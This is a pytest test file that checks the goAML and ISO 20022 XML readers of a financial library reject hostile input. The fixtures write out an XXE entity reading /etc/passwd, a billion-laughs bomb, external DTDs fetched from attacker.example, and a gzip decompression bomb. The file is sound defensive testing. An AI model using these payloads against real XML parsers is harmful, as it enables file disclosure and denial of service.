"""Hostile XML against the goAML and ISO 20022 readers: entities, DTDs, bombs, truncation."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest

import finintel as fi
from finintel.errors import InputError, UnknownFormatError, UnsafeInputError
from finintel.ingest import _goaml_xml

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
STR = FIXTURES / "goaml" / "str_bi_multi.xml"
CAMT = FIXTURES / "iso20022" / "camt053_v08.xml"

GOAML_BODY = "<report><rentity_id>{v}</rentity_id><report_code>STR</report_code></report>"
CAMT_BODY = '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><GrpHdr><MsgId>{v}</MsgId></GrpHdr></BkToCstmrStmt></Document>'
DOCTYPES = {
    "xxe": '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "billion_laughs": "<!DOCTYPE r ["
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "lol"}">' for i in range(10))
    + "]>",
    "network_dtd": '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">',
    "parameter_entity": '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x"> %ext;]>',
}
ENTITY_USE = {"xxe": "&xxe;", "billion_laughs": "&lol9;", "network_dtd": "1", "parameter_entity": "1"}


@pytest.mark.parametrize("body", [GOAML_BODY, CAMT_BODY], ids=["goaml", "iso20022"])
@pytest.mark.parametrize("attack", list(DOCTYPES))
def test_dtds_and_entities_refused_naming_the_file(tmp_path, body, attack):
    path = tmp_path / f"{attack}.xml"
    path.write_text('<?xml version="1.0"?>\n' + DOCTYPES[attack] + "\n" + body.format(v=ENTITY_USE[attack]))
    with pytest.raises(UnsafeInputError, match="DTD") as info:
        fi.read(path)
    assert str(path) in str(info.value)


def test_doctype_after_a_long_comment_is_still_refused(tmp_path):
    # the DOCTYPE sits beyond the 64 KiB the sniffer and the pre-check look at
    path = tmp_path / "late.xml"
    text = "<!-- " + "x" * 70_000 + " -->\n" + DOCTYPES["xxe"] + GOAML_BODY.format(v="&xxe;")
    path.write_text(text)
    with pytest.raises(UnsafeInputError, match="DOCTYPE"):
        fi.read(path, format="goaml")
    with pytest.raises(UnsafeInputError, match="DOCTYPE"):
        fi.read(path, format="iso20022")


@pytest.mark.parametrize("source", [STR, CAMT], ids=["goaml", "iso20022"])
def test_truncated_file_names_file_and_line(tmp_path, source):
    lines = source.read_text().splitlines(keepends=True)
    path = tmp_path / "cut.xml"
    path.write_text("".join(lines[:60]))
    with pytest.raises(InputError, match="truncated") as info:
        fi.read(path)
    assert info.value.path == str(path)
    assert info.value.row is not None and info.value.row >= 60


def test_gzip_export_reads_like_the_plain_file(tmp_path):
    path = tmp_path / "str.xml.gz"
    path.write_bytes(gzip.compress(STR.read_bytes()))
    frames = fi.read(path)
    assert frames.format == "goaml" and len(frames.transactions) == 4 and len(frames.rejects) == 4


def test_gzip_bomb_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(_goaml_xml, "_GZIP_MIN_BOMB", 1 << 20)  # 1 MB instead of 1 GB, to keep the test small
    head = b"<report><rentity_id>1</rentity_id><report_code>STR</report_code><reason>"
    path = tmp_path / "bomb.xml.gz"
    with gzip.open(path, "wb") as fh:
        fh.write(head)
        for _ in range(64):
            fh.write(b" " * (1 << 16))
    assert path.stat().st_size < 20_000
    with pytest.raises(UnsafeInputError, match="decompression bomb"):
        fi.read(path)


def test_deep_nesting_refused_as_broken_xml(tmp_path):
    path = tmp_path / "deep.xml"
    path.write_text(
        "<report><rentity_id>1</rentity_id><transaction>" + "<a>" * 5000 + "</a>" * 5000 + "</transaction></report>"
    )
    with pytest.raises(InputError, match="broken XML"):
        fi.read(path)


def test_not_goaml_nor_iso_is_refused_with_each_reason(tmp_path):
    path = tmp_path / "feed.xml"
    path.write_text("<rss><channel><title>news</title></channel></rss>")
    with pytest.raises(UnknownFormatError) as info:
        fi.read(path)
    assert info.value.refusals["goaml"] == "root element is <rss>, not goAML's <report>"
    assert info.value.refusals["iso20022"].startswith("XML without an ISO 20022")
